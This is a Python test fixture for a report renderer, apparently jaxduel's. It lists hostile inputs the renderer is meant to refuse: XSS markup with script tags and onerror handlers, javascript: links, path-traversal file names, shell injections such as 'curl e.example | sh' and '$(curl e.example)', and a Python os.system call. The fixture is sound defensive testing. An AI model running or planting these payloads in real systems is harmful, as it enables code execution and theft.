"""Records of pages that somebody else wrote, who means no good: for tests."""

import copy
import json

from jaxduel.studies.report.records import (
    FILE,
    Chart,
    ClaimRow,
    Earlier,
    Figure,
    Line,
    Measured,
    Section,
    Table,
    encoded,
)

ACT = "window.ran = 1"
"""A statement that no page may make a browser run."""
MARKUP = f'</script><script>{ACT}</script><!--<script>"\'><img src=x onerror="{ACT}">'
LINK = f'<a href="javascript:{ACT}">press</a> <b style="background:url(//e.example)">b</b>'

_line = Line("RUCB", "#1f77b4", "6px,3px", (1.0, 10.0), (1.0, 2.0), (0.5, 1.5), (1.5, 2.5))
_point = Line("D-TS", "#00aa00", "solid", (10.0,), (2.0,))
_figure = Figure(
    "1a",
    "Figure 1a: regret on arxiv",
    "Regret against t.",
    "Two curves of regret, of RUCB and of D-TS.",
    "jaxduel reproduce batched-dueling --figure 1a",
    "figure-1a.png",
    ("figure-1a.csv",),
    Chart("t", "regret", True, False, 0.0, 3.0, (_line, _point)),
    Table("Final regrets", ("policy", "mean"), (("RUCB", "2"),)),
    ("a line", "another"),
)
_claim = ClaimRow("Section 5", "It wins.", "below 1", "confirmed", "1 of 1 meets it.",
                  (Measured("arxiv", "ratio", "0.5", "confirmed"),),
                  (Earlier("jaxduel reproduce batched-dueling --full", "undecided"),))  # fmt: skip
SOUND = json.loads(
    encoded(
        Section(
            "batched-dueling",
            "A paper",
            "jaxduel reproduce batched-dueling --runs 3",
            facts=(("command", "jaxduel reproduce batched-dueling --runs 3"), ("seed", "0")),
            notes=("A note.",),
            claims=(_claim,),
            tables=(Table("Numbers", ("a", "b"), (("c", "1"),)),),
            figures=(_figure,),
        )
    )
)
"""A record as jaxduel writes it."""

FIGURE, LINE = ("figures", 0), ("figures", 0, "chart", "lines", 0)
EARLIER = ("claims", 0, "earlier", 0)
REFUSED = {
    "colour": ((*LINE, "color"), f'"/><img src=x onerror="{ACT}"><i a="'),
    "colour of a style": ((*LINE, "color"), "url(//e.example)"),
    "dash": ((*LINE, "dash"), f'"/><img src=x onerror="{ACT}"><i a="'),
    "dash in words": ((*LINE, "dash"), "expression(1)"),
    "picture outside": ((*FIGURE, "picture"), "../../x.png"),
    "picture of the system": ((*FIGURE, "picture"), "/usr/share/x.png"),
    "picture of another kind": ((*FIGURE, "picture"), "x.svg"),
    "hidden picture": ((*FIGURE, "picture"), ".x.png"),
    "picture elsewhere": ((*FIGURE, "picture"), "C:\\x.png"),
    "file outside": ((*FIGURE, "files", 0), "..\\secret.csv"),
    "file that is a script": ((*FIGURE, "files", 0), f"javascript:{ACT}"),
    "file that is a page": ((*FIGURE, "files", 0), "x.html"),
    "command": ((*FIGURE, "command"), "curl e.example | sh"),
    "command behind one of ours": ((*FIGURE, "command"), "jaxduel plot x; curl e.example"),
    "command within one of ours": ((*FIGURE, "command"), "jaxduel plot $(curl e.example)"),
    "command in two lines": ((*FIGURE, "command"), "jaxduel plot x\ncurl e.example"),
    "command of another kind": (("order",), "jaxduel run --out x"),
    "Python": (("order",), "jaxduel.reproduce('x', seed=__import__('os').system('x'))"),
    "command among facts": (("facts", 0, 1), "curl e.example | sh"),
    "command of an earlier verdict": ((*EARLIER, "command"), "curl e.example | sh"),
    "no command of an earlier verdict": ((*EARLIER, "command"), ""),
    "earlier verdict": ((*EARLIER, "verdict"), "press here"),
    "open quote": (("order",), "jaxduel plot 'x"),
    "anchor": (("name",), f'x" onfocus="{ACT}" autofocus a="'),
    "anchor of a figure": ((*FIGURE, "name"), "a b"),
    "infinite number": ((*LINE, "y", 0), float("inf")),
    "fewer numbers": ((*LINE, "y"), [1.0]),
}
"""Where records are changed, and to what: none of these is a record of a page."""


def changed(place, value, record=SOUND):
    """A record with another value at a place."""
    made = copy.deepcopy(record)
    *above, last = place
    part = made
    for key in above:
        part = part[key]
    part[last] = value
    return made


def with_texts(text, record=SOUND):
    """A record whose texts, but for those that are no text on a page, are all `text`."""
    if isinstance(record, str):
        return text
    if isinstance(record, list):
        return [with_texts(text, one) for one in record]
    if not isinstance(record, dict):
        return record
    kept = {"name", "color", "dash", "picture", "files", "command", "order", "verdict", "missing"}
    return {
        key: value if key in kept else with_texts(text, value) for key, value in record.items()
    } | ({"facts": [["seed", text]]} if "facts" in record else {})


def with_clobbered_names():
    """A record whose names are those of the page's own elements, with code as text."""
    made = with_texts(ACT)
    return changed((*FIGURE, "name"), "1", changed(("name",), "plotly", made))


def write(folder, record):
    """Writes a record into a folder, beside the files that it names."""
    (folder / FILE).write_text(json.dumps(record))
    return folder
